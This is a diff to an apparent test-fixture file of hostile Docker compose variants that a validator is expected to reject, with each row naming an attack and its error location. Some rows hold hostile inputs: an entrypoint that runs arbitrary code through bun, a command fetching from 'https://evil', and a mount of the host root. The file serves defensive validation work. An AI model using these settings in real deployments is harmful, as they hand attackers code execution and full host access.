@@ -24,7 +24,7 @@ export const ENVIRONMENT = 'compose file: services.venue.environment'
 
 export type Row = [attack: string, compose: string, place: string]
 /** The compose files that a former block list passed. */
-const FOUND: Row[] = [
+export const HOST_ACCESS: readonly Row[] = [
   ['an entrypoint of its own', service("entrypoint: ['/usr/local/bin/bun', '-e']"), key('entrypoint')],
   ['a command', service('command: fetch("https://evil")'), key('command')],
   ['the root of the host', edited('- ledger:/data', '- /:/host'), 'compose file: services.venue.volumes[1]'],
@@ -320,6 +320,11 @@ const ENVIRONMENTS: Row[] = [
     `${ENVIRONMENT}.SOLANA_RPC_URL: two providers`,
   ],
   [
+    'a provider that is no URL',
+    edited('https://two', 'https://['),
+    `${ENVIRONMENT}.SOLANA_RPC_URL: must be a list of URLs`,
+  ],
+  [
     'one provider twice',
     edited('https://two', 'https://x@one'),
     `${ENVIRONMENT}.SOLANA_RPC_URL: two providers`,
@@ -386,4 +391,9 @@ const WRITINGS: Row[] = [
   ],
 ]
 
-export const HOSTILE_COMPOSE_FILES: readonly Row[] = [...FOUND, ...COMPOSE, ...ENVIRONMENTS, ...WRITINGS]
+export const HOSTILE_COMPOSE_FILES: readonly Row[] = [
+  ...HOST_ACCESS,
+  ...COMPOSE,
+  ...ENVIRONMENTS,
+  ...WRITINGS,
+]
